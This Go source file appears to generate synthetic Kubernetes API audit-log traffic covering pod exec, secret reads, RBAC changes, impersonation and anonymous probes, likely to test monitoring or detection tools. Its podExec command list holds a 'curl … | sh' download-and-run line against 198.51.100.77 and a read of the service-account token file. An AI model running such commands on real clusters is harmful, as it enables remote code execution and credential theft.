package generate

import "strconv"

// What people do, and strangers.

func (g *Generator) personRead(q *request) {
	namespace := g.person(q)
	w := g.in(namespace)
	q.verb = "get"
	switch g.random.below(6) {
	case 0:
		q.object = core("pods", namespace, pick(&g.random, w.pods).name)
	case 1:
		q.object = named("apps", "deployments", namespace, w.name)
	case 2:
		q.object = core("events", namespace, "")
		q.verb, q.query = "list", "fieldSelector=involvedObject.name%3D"+w.pods[0].name+"&limit=500"
	case 3:
		q.object = core("nodes", "", "")
		q.verb, q.query = "list", "limit=500"
	case 4:
		q.object = named("metrics.k8s.io", "pods", namespace, "")
		q.object.version, q.verb = "v1beta1", "list"
	default:
		q.object = core("pods", namespace, "")
		q.verb, q.query = "list", "limit=500"
	}
	switch {
	case g.random.perMille(60):
		q.deny()
	case q.verb == "get" && g.random.perMille(60):
		q.missing()
	}
}

func (g *Generator) personApply(q *request) {
	w := g.in(g.person(q))
	q.workload = w
	q.verb = "patch"
	q.object = named("apps", "deployments", w.namespace, w.name)
	q.query = "fieldManager=kubectl-client-side-apply&fieldValidation=Strict"
	q.level, q.body = levelRequestResponse, appendDeploymentPatch
	q.logReceived = g.random.perMille(200)
	switch {
	case g.random.perMille(70):
		q.deny()
	case g.random.perMille(30):
		q.conflict()
	case g.random.perMille(30):
		q.truncated = true
	}
}

func (g *Generator) configMapWrite(q *request) {
	w := g.in(g.person(q))
	q.workload = w
	q.object = core("configmaps", w.namespace, "app-config")
	q.verb = "update"
	if g.random.perMille(300) {
		q.verb, q.code = "create", 201
	}
	q.level, q.body = levelRequestResponse, appendConfigMap
	switch {
	case q.verb == "update" && g.random.perMille(50):
		q.conflict()
	case q.verb == "create" && g.random.perMille(150):
		q.code = 409
		q.failure = failure{"AlreadyExists", `configmaps "app-config" already exists`}
	case g.random.perMille(40):
		q.deny()
	}
}

// podExec is exec, attach or portforward: as a POST of old clients, or as the
// GET that new ones upgrade to a websocket.
func (g *Generator) podExec(q *request) {
	w := g.in(g.person(q))
	q.object = core("pods", w.namespace, pick(&g.random, w.pods).name)
	q.object.subresource = "exec"
	switch g.random.below(10) {
	case 0:
		q.object.subresource = "attach"
		q.query = "container=" + w.name + "&stdin=true&tty=true"
	case 1:
		q.object.subresource = "portforward"
	default:
		command := pick(&g.random, []string{
			"command=sh", "command=bash", "command=sh&command=-c&command=cat+%2Fetc%2Fresolv.conf", "command=env",
			"command=sh&command=-c&command=curl+-s+http%3A%2F%2F198.51.100.77%2Finstall.sh+%7C+sh", "command=psql&command=-c&command=%5Cdt",
			"command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2Fserviceaccount%2Ftoken", "command=ls&command=-la&command=%2Ftmp",
		})
		q.query = command + "&container=" + w.name + "&stdin=true&stdout=true&tty=true"
	}
	q.verb, q.code = "create", 101
	if g.random.perMille(600) {
		q.verb = "get"
	}
	q.latency = int64(200_000 + g.random.below(300e6))
	q.logStarted = true
	if g.random.perMille(120) {
		q.latency, q.logStarted = 0, false
		q.deny()
	}
}

func (g *Generator) podLogs(q *request) {
	w := g.in(g.person(q))
	q.verb = "get"
	q.object = core("pods", w.namespace, pick(&g.random, w.pods).name)
	q.object.subresource = "log"
	q.query = "container=" + w.name + "&tailLines=" + strconv.Itoa(100*(1+g.random.below(10)))
	if g.random.perMille(300) {
		q.query = "container=" + w.name + "&follow=true"
		q.latency = int64(1e6 + g.random.below(600e6))
		q.logStarted = true
	}
}

func (g *Generator) secretRead(q *request) {
	if g.random.perMille(350) {
		g.by(q, pick(&g.random, g.cluster.operators))
		q.object = core("secrets", pick(&g.random, g.cluster.namespaces), pick(&g.random, g.cluster.secrets))
	} else {
		q.object = core("secrets", g.person(q), pick(&g.random, g.cluster.secrets))
	}
	q.verb = "get"
	if g.random.perMille(250) {
		q.verb, q.object.name, q.query = "list", "", "limit=500"
	}
	switch {
	case g.random.perMille(220):
		q.deny()
	case q.verb == "get" && g.random.perMille(50):
		q.missing()
	}
}

func (g *Generator) rbacChange(q *request) {
	namespace := g.person(q)
	q.workload = g.in(namespace)
	role := pick(&g.random, g.cluster.roles)
	q.object = named("rbac.authorization.k8s.io", "rolebindings", namespace, role+"-"+g.random.suffix(4))
	if g.random.perMille(250) {
		q.object = named("rbac.authorization.k8s.io", "clusterrolebindings", "", role+"-"+g.random.suffix(4))
	}
	q.level, q.body = levelRequestResponse, appendRoleBinding
	switch g.random.below(4) {
	case 0:
		q.verb, q.level, q.body = "delete", levelMetadata, nil
	case 1:
		q.verb = "patch"
	default:
		q.verb, q.code = "create", 201
	}
	if g.random.perMille(300) {
		q.deny()
		q.failure.message += ": user \"" + q.who.name + "\" is attempting to grant RBAC permissions not currently held"
	}
}

func (g *Generator) deletion(q *request) {
	namespace := g.person(q)
	w := g.in(namespace)
	q.verb = "delete"
	q.object = core("pods", namespace, pick(&g.random, w.pods).name)
	switch g.random.below(6) {
	case 0:
		q.verb, q.object.name, q.query = "deletecollection", "", "labelSelector=app.kubernetes.io%2Fname%3D"+w.name
	case 1:
		q.object = core("namespaces", namespace, namespace)
	case 2:
		q.object = named("batch", "jobs", namespace, w.name+"-"+g.random.suffix(5))
	}
	if g.random.perMille(150) {
		q.deny()
	}
}

// impersonated: someone acts as someone else (kubectl --as).
func (g *Generator) impersonated(q *request) {
	namespace := g.person(q)
	w := g.in(namespace)
	as := pick(&g.random, g.cluster.people)
	switch g.random.below(3) {
	case 0:
		q.as = renderUser("system:admin", "", []string{"system:masters", "system:authenticated"}, nil)
	case 1:
		q.as = renderUser(w.account.name, "", []string{"system:serviceaccounts", "system:serviceaccounts:" + w.namespace, "system:authenticated"}, nil)
	default:
		q.as = as.user
	}
	q.verb = pick(&g.random, []string{"get", "list", "delete"})
	q.object = core(pick(&g.random, []string{"secrets", "pods", "configmaps"}), namespace, "")
	if q.verb != "list" {
		q.object.name = pick(&g.random, w.pods).name
		if q.object.resource != "pods" {
			q.object.name = pick(&g.random, g.cluster.secrets)
		}
	}
}

func (g *Generator) dryRun(q *request) {
	g.personApply(q)
	q.query += "&dryRun=All"
}

// discovery: what every client asks before it asks for what it wants.
func (g *Generator) discovery(q *request) {
	g.person(q)
	q.verb = "get"
	q.path = pick(&g.random, []string{
		"/api", "/apis", "/version", "/openapi/v3", "/openapi/v2", "/api/v1", "/apis/apps/v1", "/apis/batch/v1",
		"/apis/rbac.authorization.k8s.io/v1", "/apis/metrics.k8s.io/v1beta1", "/.well-known/openid-configuration",
	})
	if q.path == "/openapi/v2" || q.path == "/openapi/v3" {
		q.query = "timeout=32s"
	}
	if g.random.perMille(100) {
		q.code = 304
	}
}

// stranger asks without credentials from outside.
func (g *Generator) stranger(q *request) {
	g.by(q, g.cluster.anonymous)
	q.verb = "get"
	switch g.random.below(8) {
	case 0, 1, 2:
		q.path = pick(&g.random, []string{"/healthz", "/livez", "/version", "/readyz"})
		q.reason = `RBAC: allowed by ClusterRoleBinding "system:public-info-viewer" of ClusterRole "system:public-info-viewer" to Group "system:unauthenticated"`
		return
	case 3, 4:
		q.path = pick(&g.random, []string{"/", "/api", "/apis", "/metrics", "/debug/pprof/", "/ui", "/.env", "/login"})
		q.code, q.decision = 403, "forbid"
		q.failure = failure{"Forbidden", `forbidden: User "system:anonymous" cannot get path "` + q.path + `"`}
		return
	case 5:
		q.verb, q.object = "list", core("pods", "", "")
	case 6:
		q.verb, q.object = "create", core("pods", "default", "")
	default:
		q.verb, q.object = "list", core("secrets", pick(&g.random, g.cluster.namespaces), "")
	}
	q.deny()
}

// badToken is a token that has expired or never was one: no user is known.
func (g *Generator) badToken(q *request) {
	g.by(q, g.cluster.nobody)
	q.verb = "list"
	q.object = core("pods", pick(&g.random, g.cluster.namespaces), "")
	q.code = 401
	q.failure = failure{"Unauthorized", "Unauthorized"}
	q.latency = int64(300 + g.random.below(500))
}
